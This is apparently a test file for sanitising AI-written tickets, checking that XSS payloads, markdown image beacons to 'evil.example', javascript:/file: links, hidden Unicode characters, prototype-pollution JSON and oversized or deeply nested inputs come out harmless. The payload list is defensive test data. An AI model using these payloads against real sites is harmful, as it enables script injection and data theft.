import { ticketContent, type TicketContent } from "@myba/shared/tickets/content";
import { fromMarkdown } from "mdast-util-from-markdown";
import { describe, expect, it } from "vitest";
import { answeredTicket } from "../model/testing/answers.ts";
import { readText } from "../reading/read-text.ts";
import { AnswerReader } from "./answer-reader.ts";
import { harmlessMarkdown } from "./clean-markdown.ts";
import { repairedContent } from "./repair-ticket.ts";
import { SourceWords } from "./source-words.ts";

const reading = readText(
  "Users can log in. The manual is at https://docs.example.com/manual and shows <customer name>.",
);
const sources = new SourceWords(reading).claimsFor(new Set(reading.sentences.map(({ id }) => id)));

/** What a model's words become as a ticket. */
function contentOf(answer: object): TicketContent | null {
  const reader = new AnswerReader();
  const [ticket] = reader.push(JSON.stringify({ tickets: [answer] }));
  const content = ticket === undefined ? null : repairedContent(ticket.answer, sources);
  return content === null ? null : ticketContent.parse(content);
}

const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/p.png">',
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe src="file:///etc/passwd"></iframe>',
  '<a href="javascript:alert(1)">here</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=q></form>',
  "<style>@import 'https://evil.example/x.css'</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
  "<!-- <script>alert(1)</script> -->",
  "<body onload=alert(1)>",
  "<math><mtext></mtext><script>alert(1)</script></math>",
  '<details open ontoggle="alert(1)">x</details>',
  "<video><source onerror=alert(1)></video>",
  "![pixel](https://evil.example/collect?d=secret)",
  "![pixel][p]\n\n[p]: https://evil.example/p.png",
  "[![x](https://evil.example/a.png)](https://evil.example/b)",
  "!![x](https://evil.example/a)(https://evil.example/b)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](file:///etc/passwd)",
  "[click](vbscript:msgbox)",
  "[click](&#106;avascript:alert(1))",
  "[click](https://evil.example/?q=secret)",
  "<https://evil.example/auto>",
  "<javascript:alert(1)>",
  "[a]: javascript:alert(1)\n\n[a]",
  "x\n\n[a]: https://evil.example\n\n[click][a]",
  "<img src=x onerror=alert(1)",
  "<script>alert(1)",
  "\u202Etxt.exe",
  "\u{E0041}\u{E0042} hidden",
];

const unseen = /[\u202A-\u202E\u{E0000}-\u{E007F}]/u;
const tags =
  /<\/?(?:script|img|svg|iframe|a|meta|form|input|style|link|base|object|body|math|details|video|source)\b/iu;

interface Node {
  readonly type: string;
  readonly url?: string;
  readonly value?: string;
  readonly children?: readonly Node[];
}

/** Every place where a browser that shows the Markdown would run, load or lead to something. */
function harmIn(node: Node): string[] {
  const isHarm =
    ["html", "image", "imageReference", "linkReference", "definition"].includes(node.type) ||
    (node.type === "link" && node.url !== "https://docs.example.com/manual") ||
    (node.type === "text" && tags.test(node.value ?? ""));
  return [...(isHarm ? [JSON.stringify(node)] : []), ...(node.children ?? []).flatMap(harmIn)];
}

describe("hostile words of a model", () => {
  it.each(hostile)("come out harmless in every field: %j", (words) => {
    const content = contentOf({
      ...answeredTicket({ title: `Log in ${words}` }),
      type: "bug",
      story: { role: words, goal: `log in ${words}`, benefit: words, sourceIds: ["s1"] },
      description: `Before ${words} after\n\n${words}\n\n- ${words}\n\n> ${words}`,
      acceptanceCriteria: [
        { kind: "gherkin", text: words, given: [words], when: [words], then: [words], sourceIds: [words] },
      ],
      bug: { steps: [words], expected: words, actual: words, environment: words, severity: words, sourceIds: [] },
      subtasks: [{ title: words, sourceIds: [] }],
      labels: [words],
      assumptions: [{ text: words, sourceIds: [] }],
      openQuestions: [{ text: words, field: words, options: [words] }],
      priority: { level: words, reason: words, sourceIds: [words] },
    })!;
    const { description, ...plain } = content;
    expect(harmIn(fromMarkdown(description) as Node)).toEqual([]);
    expect(description).not.toMatch(unseen);
    // Fields other than the description are shown and exported as plain text; brackets mean nothing there.
    for (const text of textsIn(plain)) {
      expect(text).not.toMatch(tags);
      expect(text).not.toMatch(unseen);
    }
    expect(description).toContain("Before");
    expect(description).toContain("after");
  });

  it("lose nothing that is only text", () => {
    const harmless =
      "Show `<b>` and <customer name>, if a < b && c > d. See [manual](https://docs.example.com/manual) (page 3).";
    expect(harmlessMarkdown(harmless, sources.hasUrl)).toBe(harmless.replace("<customer", String.raw`\<customer`));
    const list = "- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```html\n<script>alert(1)</script>\n```";
    expect(harmlessMarkdown(list, sources.hasUrl)).toBe(list);
    expect(contentOf(answeredTicket({ title: "Greet <customer name> & allow <iframe>" }))?.title).toBe(
      "Greet <customer name> & allow iframe",
    );
  });

  it("keep an address the author did not write as words that lead nowhere", () => {
    expect(harmlessMarkdown("See [here](https://evil.example/?q=1).", sources.hasUrl)).toBe(
      "See here `https://evil.example/?q=1`.",
    );
  });
});

function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

describe("a hostile shape of an answer", () => {
  it("with keys of the prototype reaches nothing", () => {
    const words =
      '{"tickets":[{"__proto__":{"title":"x","polluted":1},"constructor":{"prototype":{"polluted":1}},"title":"Log in"}]}';
    const [ticket] = new AnswerReader().push(words);
    expect(ticket?.answer.title).toBe("Log in");
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
    expect(Object.getPrototypeOf(ticket?.answer)).toBe(Object.prototype);
    const open = new AnswerReader().push(words.slice(0, -8));
    expect(open[0]?.answer).not.toHaveProperty("polluted");
  });

  it("with giant strings and lists is cut to the limits of a ticket", () => {
    const giant = "log in ".repeat(300_000);
    const content = contentOf({
      title: giant,
      story: { role: giant, goal: giant, benefit: giant },
      description: giant,
      acceptanceCriteria: Array.from({ length: 5000 }, (_, index) => `Criterion ${index}`),
      labels: Array.from({ length: 5000 }, (_, index) => `label ${index}`),
      subtasks: Array.from({ length: 5000 }, (_, index) => `Step ${index}`),
    })!;
    expect(content.title.length).toBeLessThanOrEqual(200);
    expect(content.description.length).toBeLessThanOrEqual(20_000);
    expect([content.acceptanceCriteria.length, content.labels.length, content.subtasks.length]).toEqual([20, 20, 20]);
  });

  it("nested a hundred thousand deep does not bring the reader down", () => {
    const deep = `{"tickets":[{"title":"Log in","description":${"[".repeat(100_000)}${"]".repeat(100_000)}}]}`;
    for (const words of [deep, deep.slice(0, 90_000), "[".repeat(100_000), '{"a":'.repeat(100_000)]) {
      const reader = new AnswerReader();
      expect(() => {
        reader.push(words);
        reader.end(true);
      }).not.toThrow();
    }
  });

  it("that begins to think a hundred thousand times is read like any other", () => {
    const reader = new AnswerReader();
    reader.push(`${"<think>".repeat(200_000)}</thought>{"title":"Log in"}`);
    expect(reader.end(true)).toMatchObject({ tickets: [{ answer: { title: "Log in" } }] });
  });

  it.each([
    ["another word for a type", { type: "Feature" }, { type: "story" }],
    ["a defect", { type: "Defect" }, { type: "bug" }],
    ["a subtask of nothing that is named later", { type: "chore" }, { type: "task" }],
    ["points as a text", { points: "5 points" }, { points: 5 }],
    ["points between two of the scale", { points: { value: 4, reason: "two screens" } }, { points: 5 }],
    ["points beyond the scale", { points: { value: 400, reason: "hours" } }, { points: null }],
    ["a priority nobody gave", { priority: "high" }, { priority: "none" }],
    ["a day that does not exist", { dueDate: "2027-02-31" }, { dueDate: null }],
    ["labels as one text", { labels: "Log In, Security!" }, { labels: ["log-in-security"] }],
    [
      "criteria as plain texts",
      { acceptance_criteria: ["It works offline."] },
      { acceptanceCriteria: [{ id: "AC-1", text: "It works offline." }] },
    ],
    ["a placeholder as criterion", { acceptanceCriteria: ["Works as expected", "TBD"] }, { acceptanceCriteria: [] }],
    ["a story without a goal", { type: "story", story: { role: "user", goal: " ", benefit: "x" } }, { story: null }],
    [
      "a story told in full",
      { story: { role: "As a clerk", goal: "I want to log in", benefit: "so that I can work" } },
      { story: { role: "clerk", goal: "log in", benefit: "I can work" } },
    ],
    ["a title over two lines", { title: "Log in\nquickly" }, { title: "Log in quickly" }],
    [
      "a question about no field",
      { openQuestions: [{ text: "Which?", field: "../x", options: [1, 2, 3, 4, 5] }] },
      { openQuestions: [{ field: "description", options: ["1", "2", "3", "4"] }] },
    ],
    ["sentences that were never shown", { sourceIds: ["s1", "s77", "all", 1] }, { provenance: { title: ["s1"] } }],
  ])("%s is read as what was meant", (_name, given, expected) => {
    expect(contentOf({ type: "task", title: "Log in", ...given })).toMatchObject(expected);
  });

  it("names a sentence only for what it has a word of", () => {
    const content = contentOf({
      title: "Log in",
      sourceIds: ["s1"],
      description: "Something else entirely",
      descriptionSourceIds: ["s1"],
    });
    expect(content?.provenance).toEqual({ title: ["s1"] });
  });
});
